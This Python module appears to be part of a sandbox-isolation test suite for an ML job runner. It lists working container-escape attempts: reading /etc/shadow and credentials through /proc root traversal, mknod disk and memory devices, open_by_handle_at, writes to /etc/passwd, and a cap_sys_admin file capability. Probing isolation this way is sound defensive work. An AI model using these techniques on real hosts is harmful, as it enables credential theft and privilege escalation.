"""Attempts on files: the host's, the server's, other jobs', the image's, and devices."""

import ctypes
import os
import stat

from attempts.make import LIBC, system_call

DISKS = [(8, 0), (253, 0), (254, 0), (259, 0)]


def read(path):
    with open(path, "rb") as file:
        return file.read(100)


def write(path):
    with open(path, "ab") as file:
        file.write(b"x")
    return "written"


def listed(path):
    return os.listdir(path)


def password_hashes(facts):
    """Those of the host; an image has none."""
    hashes = [line for line in open("/etc/shadow") if "$" in line]
    return hashes or None


def outside_root(path):
    """The path below every other way to a root directory."""

    def attempt(facts):
        for root in ("/proc/1/root", "/proc/self/root/..", "/proc/2/root", "/proc/1/cwd/../../../.."):
            try:
                return read(root + facts[path])
            except OSError:
                continue
        return None

    return attempt


def device(kind, major, minor):
    path = f"/tmp/device-{major}-{minor}"
    os.mknod(path, kind | 0o600, os.makedev(major, minor))
    return read(path)


def disk_device(facts):
    for major, minor in DISKS:
        try:
            return device(stat.S_IFBLK, major, minor)
        except OSError:
            continue
    return None


def any_of(*paths):
    def attempt(facts):
        for path in paths:
            try:
                return read(path)
            except OSError:
                continue
        return None

    return attempt


def by_handle(facts):
    """open_by_handle_at(2) of the root directory of the file system that /opt/ml is on: the way out of 2014."""
    handle = ctypes.create_string_buffer(bytes([8, 0, 0, 0, 1, 0, 0, 0, 2, 0, 0, 0, 0, 0, 0, 0]) + b"\0" * 128)
    folder = os.open("/opt/ml", os.O_RDONLY)
    return os.listdir(system_call((304, 265), folder, handle, os.O_RDONLY))


def inherited(facts):
    """Descriptors that came from outside besides standard input, output and error."""
    found = {}
    for name in facts["descriptors"]:
        if int(name) > 2:
            found[name] = facts["descriptors"][name]
    return found or None


def above_descriptors(facts):
    """From every folder upwards that a descriptor from outside leads to."""
    for name in facts["descriptors"]:
        try:
            return read(f"/proc/self/fd/{name}{'/..' * 16}{facts['secret']}")
        except OSError:
            continue
    return None


def linked_program(facts):
    os.link("/usr/bin/env", "/opt/ml/model/env")
    return "linked"


def replaced_program(facts):
    os.rename("/tmp", "/usr/local/bin")
    return "renamed"


def immutable(facts):
    """FS_IOC_SETFLAGS: a file that the server could not remove any more."""
    import fcntl

    path = "/opt/ml/output/for-ever"
    with open(path, "wb") as file:
        fcntl.ioctl(file, 0x40086602, ctypes.c_long(0x10))
    return "set"


def capability_of_a_file(facts):
    """security.capability on a program of ours: cap_sys_admin for whoever runs it."""
    path = "/tmp/strong"
    open(path, "wb").close()
    value = bytes.fromhex("0100000200002000000000000000000000000000")
    if LIBC.setxattr(path.encode(), b"security.capability", value, len(value), 0):
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return "set"


ATTEMPTS = {
    "a secret file of the host": lambda facts: read(facts["secret"]),
    "a secret file of the host through other roots": outside_root("secret"),
    "a secret file of the host above a descriptor": above_descriptors,
    "the server's data folder": lambda facts: listed(facts["data"]),
    "the server's credentials file": lambda facts: read(f"{facts['data']}/credentials"),
    "the server's credentials file through other roots": outside_root("credentials"),
    "another job's folder": lambda facts: listed(facts["victim_folder"]),
    "the host's password hashes": password_hashes,
    "the home folder of the host's root": lambda facts: listed("/root") or None,
    "the host's temporary folder": lambda facts: read(facts["secret_in_tmp"]),
    "a write to a program of the image": lambda facts: write("/usr/bin/env"),
    "a new program of the image": lambda facts: write("/usr/bin/new"),
    "a write to the image's Python packages": lambda facts: write("/opt/sagebrush/environment/pyvenv.cfg"),
    "a write to the image's own code": lambda facts: write("/opt/sagebrush/images/kit/main.py"),
    "a write to the table of users": lambda facts: write("/etc/passwd"),
    "a write to the table of host names": lambda facts: write("/etc/hosts"),
    "a hard link to a program of the image": linked_program,
    "a folder of the image replaced": replaced_program,
    "a device node of a disk": disk_device,
    "a device node of the memory": lambda facts: device(stat.S_IFCHR, 1, 1),
    "the memory of the machine": any_of("/dev/mem", "/dev/kmem", "/dev/port", "/proc/kcore"),
    "a disk of the machine": any_of("/dev/vda", "/dev/sda", "/dev/nvme0n1", "/dev/xvda", "/dev/loop0"),
    "the kernel's messages": any_of("/dev/kmsg", "/proc/kmsg"),
    "devices that make devices": any_of("/dev/fuse", "/dev/kvm", "/dev/net/tun", "/dev/vhost-vsock", "/dev/uinput"),
    "a file by its handle": by_handle,
    "descriptors left open": inherited,
    "a file that cannot be removed": immutable,
    "a program with capabilities of its own": capability_of_a_file,
}
